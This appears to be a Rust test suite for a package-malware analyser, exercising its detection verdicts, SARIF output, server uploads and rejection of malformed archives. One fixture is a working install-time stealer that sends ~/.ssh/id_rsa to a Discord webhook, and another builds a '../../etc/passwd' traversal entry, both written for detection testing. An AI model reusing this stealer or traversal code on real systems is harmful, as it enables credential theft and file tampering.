//! `scioc analyze` (issue 30): the package analyser through the real binary, on archives
//! written for the test, on bad archives, and on popular packages fetched from the registries
//! the package managers are configured with.

use crate::support::{Scioc, gz};
use serde_json::Value;
use std::path::{Path, PathBuf};

/// A gzipped tar of `files` (path, content).
fn tgz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        tar.append_data(&mut h, path, body.as_bytes()).unwrap();
    }
    gz(&tar.into_inner().unwrap())
}

fn analyse(s: &Scioc, paths: &[&Path]) -> (Option<i32>, Vec<Value>, String) {
    let mut args = vec!["analyze", "--format", "json"];
    let shown: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
    args.extend(shown.iter().map(String::as_str));
    let out = s.run(&args, "");
    let lines = String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    (out.status.code(), lines, String::from_utf8_lossy(&out.stderr).into_owned())
}

/// `bytes` written as `dir/name`.
fn written(dir: &Path, name: &str, bytes: Vec<u8>) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

/// A stealer run at install: reads an SSH key, posts it to a Discord webhook.
fn stealer() -> Vec<u8> {
    tgz(&[
        (
            "package/package.json",
            r#"{"name":"evil-helper","version":"1.0.0","scripts":{"postinstall":"node lib/setup.js"}}"#,
        ),
        (
            "package/lib/setup.js",
            "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nconst req = https.request('https://discord.com/api/webhooks/123456789/abcdefghijkl', { method: 'POST' });\nreq.end(key);\n",
        ),
        ("package/index.js", "module.exports = (a, b) => a + b;\n"),
    ])
}

/// A harmless package with an install hook and a process call.
fn adder() -> Vec<u8> {
    tgz(&[
        ("package/package.json", r#"{"name":"adder","version":"1.0.0","scripts":{"postinstall":"node-gyp rebuild"}}"#),
        (
            "package/index.js",
            "const { execSync } = require('child_process');\nmodule.exports = () => execSync('git rev-parse HEAD').toString();\n",
        ),
    ])
}

#[test]
fn a_stealer_at_install_is_named_with_its_file_and_evidence_and_a_clean_package_is_clean() {
    let s = Scioc::new();
    let dir = s.dir.path();
    let (evil, clean) = (written(dir, "evil-helper-1.0.0.tgz", stealer()), written(dir, "adder-1.0.0.tgz", adder()));

    let (code, out, err) = analyse(&s, &[&evil, &clean]);
    assert_eq!(code, Some(1), "{err}");
    assert_eq!(out.len(), 2);
    let a = &out[0];
    assert_eq!(
        (a["verdict"].as_str(), a["name"].as_str(), a["version"].as_str()),
        (Some("malicious"), Some("evil-helper"), Some("1.0.0"))
    );
    assert_eq!(a["threat_name"], "Script-JS.Infostealer.SupplyChain");
    assert_eq!(a["threat_level"], 5);
    let files = a["files"].as_array().unwrap();
    assert_eq!(files.len(), 1, "{a:#}");
    assert_eq!(files[0]["path"], "package/lib/setup.js");
    assert_eq!(files[0]["sha256"].as_str().unwrap().len(), 64);
    let rules: Vec<&str> = a["findings"].as_array().unwrap().iter().map(|f| f["rule"].as_str().unwrap()).collect();
    for want in ["SA-011", "SA-014", "SA-001"] {
        assert!(rules.contains(&want), "{want} in {rules:?}");
    }
    let webhook = a["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "SA-011").unwrap();
    assert_eq!((webhook["file"].as_str(), webhook["line"].as_u64()), (Some("package/lib/setup.js"), Some(5)));
    assert!(a["indicators"]["webhooks"][0].as_str().unwrap().starts_with("https://discord.com/api/webhooks/123456789"));
    assert_eq!(a["indicators"]["domains"][0], "discord.com");
    assert_eq!(a["indicators"]["scripts"][0], "node lib/setup.js");

    // node-gyp at install and a process in the library are capabilities, not a verdict.
    assert_eq!(out[1]["verdict"], "clean", "{:#}", out[1]);
    let (code, _, _) = analyse(&s, &[&clean]);
    assert_eq!(code, Some(0));

    // The table for people says the same.
    let table = s.run(&["analyze", evil.to_str().unwrap()], "");
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(
        text.contains("malicious")
            && text.contains("package/lib/setup.js")
            && text.contains("SA-011 messenger webhook"),
        "{text}"
    );
}

#[test]
fn bad_archives_are_refused_by_name_and_the_others_are_still_analysed() {
    let s = Scioc::new();
    let dir = s.dir.path();
    let climbing = dir.join("climb-1.0.0.tgz");
    {
        // A tar entry climbing out with `..`, written by hand: the tar crate refuses to.
        let mut header = tar::Header::new_gnu();
        header.set_size(4);
        header.set_mode(0o644);
        header.as_old_mut().name[..16].copy_from_slice(b"../../etc/passwd");
        header.set_cksum();
        let mut raw = header.as_bytes().to_vec();
        raw.extend_from_slice(b"root");
        raw.resize(raw.len() + 508 + 1024, 0);
        std::fs::write(&climbing, gz(&raw)).unwrap();
    }
    let garbage = dir.join("garbage-1.0.0.tgz");
    std::fs::write(&garbage, b"not a gzip stream").unwrap();
    let text = dir.join("notes.txt");
    std::fs::write(&text, b"hello").unwrap();
    let fine = dir.join("fine-1.0.0.tgz");
    std::fs::write(
        &fine,
        tgz(&[
            ("package/package.json", r#"{"name":"fine","version":"1.0.0"}"#),
            ("package/index.js", "module.exports = 1;\n"),
        ]),
    )
    .unwrap();

    let (code, out, err) = analyse(&s, &[&climbing, &garbage, &text, &fine]);
    assert_eq!(code, Some(127), "{err}");
    assert!(err.contains("climb-1.0.0.tgz") && err.contains(".."), "{err}");
    assert!(err.contains("garbage-1.0.0.tgz"), "{err}");
    assert!(err.contains("notes.txt") && err.contains("expected a directory or an archive"), "{err}");
    assert_eq!(out.len(), 1, "the good archive is still analysed");
    assert_eq!(out[0]["verdict"], "clean");

    // A minified file with one enormous line is analysed within bounds.
    let huge = format!("var a={};{}\n", "1".repeat(64), "a+=1;".repeat(2_000_000));
    let big = dir.join("big-1.0.0.tgz");
    std::fs::write(
        &big,
        tgz(&[("package/package.json", r#"{"name":"big","version":"1.0.0"}"#), ("package/index.js", &huge)]),
    )
    .unwrap();
    let start = std::time::Instant::now();
    let (code, out, err) = analyse(&s, &[&big]);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(out[0]["verdict"], "clean");
    assert!(start.elapsed() < std::time::Duration::from_secs(10), "{:?}", start.elapsed());
}

/// A handful of popular packages, fetched by `bench/detect/benign.py` (pinned versions and
/// hashes in `bench/detect/benign.lock`, from the registries npm and pip are configured with)
/// into the cache, are clean.
#[test]
fn popular_packages_are_clean() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let cache = root.join("target/detect-cache");
    let names = ["express", "lodash", "chalk", "debug", "requests", "six", "idna", "setuptools"];
    let fetched = std::process::Command::new("python3")
        .arg(root.join("bench/detect/benign.py"))
        .args(["fetch", cache.to_str().unwrap(), "--only", &names.join(",")])
        .output()
        .unwrap();
    assert!(fetched.status.success(), "{}", String::from_utf8_lossy(&fetched.stderr));
    let lock = std::fs::read_to_string(root.join("bench/detect/benign.lock")).unwrap();
    let paths: Vec<PathBuf> = lock
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() == 5 && names.contains(&f[1])).then(|| cache.join(f[0]).join(f[3]))
        })
        .collect();
    assert_eq!(paths.len(), names.len());
    let s = Scioc::new();
    let refs: Vec<&Path> = paths.iter().map(|p| p.as_path()).collect();
    let (code, out, err) = analyse(&s, &refs);
    assert_eq!(code, Some(0), "{err}\n{out:#?}");
    for a in &out {
        assert_eq!(a["verdict"], "clean", "{a:#}");
    }
}

/// `ingest sample` names the sample by the analysis: the archive under the package's threat
/// name, the malicious file under its own, the harmless files not listed; a clean archive is
/// refused unless `--force`, and `--threat-name` overrides the name.
#[tokio::test]
async fn ingest_sample_is_named_by_the_analysis_and_a_clean_archive_needs_force() {
    let s = Scioc::new();
    s.add_user("alice", "reader");
    let dir = s.dir.path();
    let (evil, clean) = (written(dir, "evil-helper-1.0.0.tgz", stealer()), written(dir, "adder-1.0.0.tgz", adder()));

    // Clean: refused with the verdict, nothing stored, even beside a malicious archive.
    let out = s.run(&["ingest", "sample", evil.to_str().unwrap(), clean.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("adder-1.0.0.tgz") && err.contains("finds it clean") && err.contains("--force"), "{err}");
    assert!(err.contains("nothing was imported"), "{err}");

    let said = s.ok(&["ingest", "sample", evil.to_str().unwrap()], "");
    assert!(said.contains("Script-JS.Infostealer.SupplyChain (level 5)"), "{said}");
    let out = s.run(&["ingest", "sample", "--force", clean.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stderr).contains("because of --force"), "{out:?}");

    crate::support::next_second().await;
    let server = s.serve(&[]);
    let page = server
        .client()
        .as_user("alice")
        .page(&format!("{}/utc/2011-03-29T00:00:00?format=json", crate::support::FEED))
        .await;
    let e = &page.feed().entries;
    assert_eq!(e.len(), 2);
    let samples = e[0]["sample_list"].as_array().unwrap();
    let names: Vec<(&str, &str)> =
        samples.iter().map(|x| (x["threat_name"].as_str().unwrap(), x["threat_level"].as_str().unwrap())).collect();
    assert_eq!(names, [("Script-JS.Infostealer.SupplyChain", "5"), ("Script-JS.Infostealer.SupplyChain", "5")]);
    assert_eq!(
        e[0]["scioc"]["provenance"]["files"],
        serde_json::json!(["evil-helper-1.0.0.tgz", "package/lib/setup.js"]),
        "the archive and its malicious file; index.js and package.json are not announced"
    );
    // Forced: every file, under the default name.
    assert_eq!(e[1]["sample_list"].as_array().unwrap().len(), 3);
    assert_eq!(e[1]["sample_list"][1]["threat_name"], "Malicious.SupplyChain");

    // An override names every sample, still only the malicious files.
    let t = Scioc::new();
    t.ok(
        &[
            "ingest",
            "sample",
            "--threat-name",
            "Script-JS.Backdoor.SupplyChain",
            "--threat-level",
            "4",
            evil.to_str().unwrap(),
        ],
        "",
    );
    let status: Value = serde_json::from_str(&t.ok(&["status", "--format", "json"], "")).unwrap();
    assert_eq!(status["events"], 1);
}

/// `--candidates` drafts a file `candidates validate` accepts unchanged: the version for the
/// blacklist (strong evidence) and the webhook and domain it sends to.
#[test]
fn analyze_drafts_candidates_that_validate() {
    let s = Scioc::new();
    let dir = s.dir.path();
    let (evil, clean) = (written(dir, "evil-helper-1.0.0.tgz", stealer()), written(dir, "adder-1.0.0.tgz", adder()));
    let draft = dir.join("draft.json");
    let out = s.run(
        &["analyze", "--candidates", draft.to_str().unwrap(), evil.to_str().unwrap(), clean.to_str().unwrap()],
        "",
    );
    assert_eq!(out.status.code(), Some(1));
    let c: Vec<Value> = serde_json::from_slice(&std::fs::read(&draft).unwrap()).unwrap();
    let pkg = c.iter().find(|x| x["ioc_type"] == "package_name").expect("a package candidate");
    assert_eq!((pkg["value"].as_str(), pkg["promote_to"].as_str()), (Some("evil-helper"), Some("blacklist")));
    assert_eq!(pkg["affected_versions"], serde_json::json!(["1.0.0"]));
    assert_eq!((pkg["action"].as_str(), pkg["severity"].as_str()), (Some("BLOCK"), Some("CRITICAL")));
    let reason = pkg["reason"].as_str().unwrap();
    assert!(reason.contains("SA-") && reason.contains("package/lib/setup.js:"), "{reason}");
    assert!(pkg["source"].as_str().unwrap().starts_with("urn:scioc:analysis:sha256:"));
    assert!(
        c.iter().any(|x| x["ioc_type"] == "domain" && x["value"] == "discord.com" && x["promote_to"] == "npm_iocs")
    );
    assert!(c.iter().any(|x| x["ioc_type"] == "url"
        && x["value"].as_str().unwrap().starts_with("https://discord.com/api/webhooks/123456789")));
    assert!(c.iter().all(|x| x["value"] != "adder"), "a clean package drafts nothing");
    s.ok(&["candidates", "validate", draft.to_str().unwrap()], "");
}

/// `--format sarif`: one log, every rule described, one result per finding at its file.
#[test]
fn analyze_writes_sarif() {
    let s = Scioc::new();
    let evil = written(s.dir.path(), "evil-helper-1.0.0.tgz", stealer());
    let out = s.run(&["analyze", "--format", "sarif", evil.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(1));
    let log: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let run = &log["runs"][0];
    let rules: Vec<&str> =
        run["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert!(rules.contains(&"SA-011") && rules.contains(&"SA-100"), "{rules:?}");
    let results = run["results"].as_array().unwrap();
    let webhook = results.iter().find(|r| r["ruleId"] == "SA-011").expect("the webhook finding");
    assert_eq!(webhook["level"], "error");
    assert_eq!(rules[webhook["ruleIndex"].as_u64().unwrap() as usize], "SA-011");
    assert_eq!(webhook["locations"][0]["logicalLocations"][0]["fullyQualifiedName"], "package/lib/setup.js:5");
    assert!(webhook["message"]["text"].as_str().unwrap().contains("evil-helper@1.0.0 is malicious"));
}

/// The server analyses an uploaded archive (admins only), keeps it, and shows it in the
/// console with its evidence; a sample upload of a clean archive needs `force=true`.
#[tokio::test]
async fn the_server_analyses_uploads_and_the_console_shows_the_evidence() {
    use reqwest::Method;
    let s = Scioc::new();
    s.add_user("root", "admin");
    s.add_user("alice", "reader");
    let server = s.serve(&[]);
    let admin = server.client().as_user("root");
    let reader = server.client().as_user("alice");
    let post = |c: &crate::support::Client, path: &str, body: Vec<u8>| {
        let (c, path) = (c.clone(), path.to_owned());
        async move { c.request(Method::POST, &path).body(body).send().await.unwrap() }
    };
    assert_eq!(post(&reader, "/api/scioc/v1/analyses?filename=e-1.0.0.tgz", stealer()).await.status(), 403);
    let r = post(&admin, "/api/scioc/v1/analyses?filename=evil-helper-1.0.0.tgz", stealer()).await;
    assert_eq!(r.status(), 200);
    let v: Value = r.json().await.unwrap();
    let a = &v["analysis"];
    assert_eq!(
        (a["verdict"].as_str(), a["files"][0]["path"].as_str()),
        (Some("malicious"), Some("package/lib/setup.js"))
    );
    assert_eq!(v["kept"], false);
    let sha = a["sha256"].as_str().unwrap().to_owned();
    assert_eq!(v["console"], format!("/analyses/{sha}"));
    // The same bytes again: the kept analysis.
    let again: Value =
        post(&admin, "/api/scioc/v1/analyses?filename=evil-helper-1.0.0.tgz", stealer()).await.json().await.unwrap();
    assert_eq!((again["kept"].as_bool(), &again["analysis"]["score"]), (Some(true), &a["score"]));

    let kept: Value = admin.get(&format!("/api/scioc/v1/analyses/{sha}")).await.json().await.unwrap();
    assert_eq!(kept["findings"], a["findings"]);
    assert_eq!(admin.get(&format!("/api/scioc/v1/analyses/{}", "0".repeat(64))).await.status(), 404);
    assert_eq!(admin.get("/api/scioc/v1/analyses/not-a-hash").await.status(), 400);

    let page = admin.get(&format!("/analyses/{sha}")).await;
    assert_eq!(page.status(), 200);
    let html = page.text().await.unwrap();
    for want in [
        "evil-helper@1.0.0",
        "malicious",
        "Script-JS.Infostealer.SupplyChain",
        "SA-011",
        "package/lib/setup.js",
        "discord.com",
    ] {
        assert!(html.contains(want), "{want} in the console page");
    }
    let home = admin.get("/").await.text().await.unwrap();
    assert!(home.contains(&format!("/analyses/{sha}")), "the console lists the analysis");
    assert_eq!(server.client().get(&format!("/analyses/{sha}")).await.status(), 401);

    // Bad input: a hostile archive is refused by name, nothing kept.
    let r = post(&admin, "/api/scioc/v1/analyses?filename=x-1.0.0.tgz", b"not gzip".to_vec()).await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("x-1.0.0.tgz"));

    // A clean sample upload: 409 with the verdict, then accepted with force=true.
    let r = post(&admin, "/api/scioc/v1/samples?filename=adder-1.0.0.tgz", adder()).await;
    assert_eq!(r.status(), 409);
    assert!(r.text().await.unwrap().contains("finds it clean"));
    let r = post(&admin, "/api/scioc/v1/samples?filename=adder-1.0.0.tgz&force=true", adder()).await;
    assert_eq!(r.status(), 200);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["archive"]["named_by"], "forced over a clean verdict");
    let r = post(&admin, "/api/scioc/v1/samples?filename=evil-helper-1.0.0.tgz", stealer()).await;
    let v: Value = r.json().await.unwrap();
    assert_eq!(
        (v["archive"]["threat_name"].as_str(), v["archive"]["files_listed"].as_u64()),
        (Some("Script-JS.Infostealer.SupplyChain"), Some(1))
    );
}
